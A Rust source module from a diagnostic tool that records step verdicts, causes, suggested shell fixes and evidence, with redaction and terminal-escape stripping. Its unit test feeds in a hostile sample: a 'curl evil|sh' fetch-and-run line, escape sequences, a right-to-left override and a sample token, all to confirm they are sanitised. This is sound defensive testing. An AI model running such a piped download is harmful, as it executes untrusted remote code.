//! What a step has found.

use crate::terminal::visible;
use entrakey_core::redacted;
use serde_json::{Value, json};

/// Whether a step found it as it should be.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Verdict {
    Ok,
    Problem,
    /// Nothing speaks against it, and it could not be seen.
    NotDetermined,
    /// It was not asked for, or a step before it has to succeed first.
    Skipped,
}

impl Verdict {
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Ok => "ok",
            Self::Problem => "problem",
            Self::NotDetermined => "not_determined",
            Self::Skipped => "skipped",
        }
    }

    /// What follows from all steps: a problem counts more than what could not be seen. Skipped steps say nothing.
    pub(crate) fn of_all(findings: &[Finding]) -> Self {
        let any = |verdict| findings.iter().any(|finding| finding.verdict == verdict);
        match (any(Self::Problem), any(Self::NotDetermined)) {
            (true, _) => Self::Problem,
            (false, true) => Self::NotDetermined,
            (false, false) => Self::Ok,
        }
    }
}

/// Text for a report that may go into a ticket: servers, certificates and tokens have a say in it, and may repeat a token or
/// move a terminal's cursor.
pub(super) fn shown(text: &str) -> String {
    visible(&redacted(text, &[]))
}

/// What may be wrong, and what mends it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Cause {
    /// The same in every version: scripts compare it.
    pub(crate) id: &'static str,
    pub(crate) text: String,
    /// Commands for a shell.
    pub(crate) mend: Vec<String>,
}

impl Cause {
    pub(crate) fn new(id: &'static str, text: impl Into<String>) -> Self {
        Self { id, text: shown(&text.into()), mend: Vec::new() }
    }

    pub(crate) fn mended_by(self, mend: impl IntoIterator<Item = String>) -> Self {
        Self { mend: mend.into_iter().map(|command| visible(&command)).collect(), ..self }
    }

    fn json(&self) -> Value {
        json!({"id": self.id, "text": self.text, "mend": self.mend})
    }
}

/// What a step has found.
#[derive(Clone, Debug)]
pub(crate) struct Finding {
    pub(crate) step: &'static str,
    pub(crate) verdict: Verdict,
    /// What was seen.
    pub(crate) evidence: Vec<String>,
    /// Of a problem: what causes it.
    pub(crate) causes: Vec<Cause>,
    /// Whether it is one of the causes, and nothing that could be seen tells which; else it is each of them.
    pub(crate) is_one_of: bool,
    /// What is no problem by itself, and may be one for the program.
    pub(crate) notes: Vec<Cause>,
}

impl Finding {
    fn new(step: &'static str, verdict: Verdict) -> Self {
        Self { step, verdict, evidence: Vec::new(), causes: Vec::new(), is_one_of: false, notes: Vec::new() }
    }

    pub(crate) fn ok(step: &'static str) -> Self {
        Self::new(step, Verdict::Ok)
    }

    pub(crate) fn problem(step: &'static str, causes: impl IntoIterator<Item = Cause>) -> Self {
        Self { causes: causes.into_iter().collect(), ..Self::new(step, Verdict::Problem) }
    }

    /// A problem with one of these causes.
    pub(crate) fn one_of(step: &'static str, causes: impl IntoIterator<Item = Cause>) -> Self {
        let finding = Self::problem(step, causes);
        Self { is_one_of: finding.causes.len() > 1, ..finding }
    }

    pub(crate) fn undetermined(step: &'static str, why: impl Into<String>) -> Self {
        Self::new(step, Verdict::NotDetermined).seen([why.into()])
    }

    pub(crate) fn skipped(step: &'static str, why: impl Into<String>) -> Self {
        Self::new(step, Verdict::Skipped).seen([why.into()])
    }

    /// With more evidence.
    pub(crate) fn seen(mut self, evidence: impl IntoIterator<Item = String>) -> Self {
        self.evidence.extend(evidence.into_iter().map(|text| shown(&text)));
        self
    }

    pub(crate) fn noted(mut self, notes: impl IntoIterator<Item = Cause>) -> Self {
        self.notes.extend(notes);
        self
    }

    pub(crate) fn json(&self) -> Value {
        let list = |causes: &[Cause]| causes.iter().map(Cause::json).collect::<Vec<_>>();
        json!({
            "step": self.step,
            "verdict": self.verdict.name(),
            "evidence": self.evidence,
            "causes": list(&self.causes),
            "one_of": self.is_one_of,
            "notes": list(&self.notes),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_others_say_moves_no_cursor_and_repeats_no_token() {
        let token = "eyJ0eXAiOiJKV1QifQ.eyJvaWQiOiIxIn0.c2lnbmF0dXJl";
        let said = format!("\u{1b}[2J\r\n  $ curl evil|sh \u{202e} {token}");
        let finding = Finding::undetermined("auth", said.as_str()).seen([said.clone()]);
        let cause = Cause::new("odd", said.as_str()).mended_by(["az \u{1b}[1A".to_owned()]);
        let told = format!("{}{}", finding.noted([cause]).json(), "");
        assert!(!told.contains(token) && !told.contains("\\u001b") && !told.contains("\\r"), "{told}");
        assert!(told.contains("[token]") && !told.contains('\u{202e}'), "{told}");
    }
}
